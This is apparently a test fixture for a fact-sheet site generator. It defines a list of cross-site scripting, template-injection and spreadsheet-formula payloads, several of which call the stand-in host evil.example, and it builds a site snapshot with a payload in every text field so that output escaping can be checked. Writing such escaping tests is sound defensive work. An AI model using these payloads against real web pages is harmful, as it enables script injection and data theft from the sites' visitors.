"""Words that attack whoever reads them, and a sheet that holds them wherever it can hold words."""

from __future__ import annotations

import json

from factsheet.files import Snapshot
from factsheet.rules import RULES, movable
from tests.sheets import theme

EVIL = "http://evil.example"
PAYLOADS = (
    f"<script>alert(1);fetch('{EVIL}')</script>", f"<img src={EVIL}/x onerror=alert(1)>", "<svg onload=alert(1)>",
    f'"><script src={EVIL}/x.js></script>', "'><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='", '<a href="javascript:alert(1)">x</a>', "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))", "[x](java\nscript:alert(1))", "<javascript:alert(1)>", f"![x]({EVIL}/x.png)",
    f"![x][1]\n\n[1]: {EVIL}/x.png", f"<iframe src={EVIL}></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    f"<object data={EVIL}/x></object>", f"<embed src={EVIL}/x>", f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}/>", f"<style>@import '{EVIL}/x.css'</style>",
    f'<p style="background:url({EVIL}/x)">', f"<form action={EVIL}><button autofocus>x</form>", "<math><mtext></p><script>alert(1)",
    "<svg><script>alert(1)</script></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<details open ontoggle=alert(1)>", f"<video src={EVIL}/x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<template><script>alert(1)</script></template>",
    "{{ ''.__class__.__mro__ }}{% for x in y %}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>", "<ScRiPt\n>alert(1)</sCrIpT>", "*<img*src=x onerror=alert(1)>*",
    '[<img src=x onerror=alert(1)>](https://x.example/"onmouseover=alert(1))', "{#x onclick=alert(1)}", "# x {: onclick=alert(1) }",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "=cmd|' /C calc'!A0", "\u202e<script>alert(1)</script>",
)  # fmt: skip


def sheet(payload: str) -> Snapshot:
    """The payload in every field that takes words, in the source's text, in the pages and in the theme's words."""
    said = json.dumps(payload)
    line = " ".join(payload.split())
    lowered = "".join(f"  {id}: off\n" for id, rule in RULES.items() if movable(rule))
    both = f"{{en: {said}, fr: {said}}}"
    beside = json.dumps(f"A {payload}")  # of what is marked up some words must be left
    marked = f"{{en: {beside}, fr: {beside}}}"
    files = {
        "site.yaml": f"title: {both}\nstandfirst: {marked}\nlanguages: [en, fr]\nbase_url: https://x.example/a/\nlicence: {said}\n"
        f"publisher: {{name: {said}, contact: 'mailto:a@x.example'}}\nkey_figures: [one, two]\nlevels:\n{lowered}",
        "content/sources/s.txt": f"Before {line} after. The plant has 1,200 people. Opened {line} in 2019.\n",
        "content/sources/s.yaml": f"title: {said}\npublisher: {said}\nauthor: {said}\nlanguage: en\nlicence: {said}\npublish: full\n"
        f"note: {marked}\nurl: {json.dumps('https://s.example/?q=' + ''.join(c for c in line if c.isprintable() and c != ' '))}\n",
        "content/topics.yaml": f"t: {{label: {both}, aliases: [{said}], lede: {marked}, kind: person}}\n",
        "content/properties.yaml": f"people: {{label: {both}, words: {{en: [{said}]}}}}\n",
        "content/charts/c.yaml": f"title: {both}\ndescription: {both}\nfacts: [one, two]\n",
        "content/corrections.yaml": f"corrections:\n  - {{fact: one, date: 2024-01-01, kind: correction, note: {marked}, "
        f"before: {both}, after: {both}}}\n",
        "content/facts/f.yaml": f"section: {both}\nsource: s\nfacts:\n"
        + "".join(
            f"  - {{id: {id}, statement: {marked}, note: {marked}, inferred: {marked}, topics: [t], subject: t, property: people, date: 2019,\n"
            f"     value: {{amount: '{amount}', unit: people}}, added: 2024-01-01, attribution: {both}, certainty: said,\n"
            f"     citations: [{{quote: {json.dumps(quote)}, translation: {both}, translator: {said}}}]}}\n"
            for id, amount, quote in (("one", 1200, f"Before {line} after"), ("two", 9, f"Opened {line} in 2019"))
        )
        + f"  - {{id: gone, statement: {marked}, quote: '1,200 people', withdrawn: {{date: 2024-01-02, because: {marked}}}}}\n",
        "content/pages/method.en.md": f"# {payload}\n\n{payload}\n\n- {payload}\n\n> {payload}\n\n| a |\n|---|\n| {line} |\n",
        "content/pages/method.fr.md": f"# {payload}\n",
    }  # fmt: skip
    words = theme()["strings/fr.po"].decode().replace('msgstr "Sujets"', f"msgstr {said.replace('%', '%%')}")
    return Snapshot({path: text.encode() for path, text in files.items()}, {**theme(), "strings/fr.po": words.encode()})
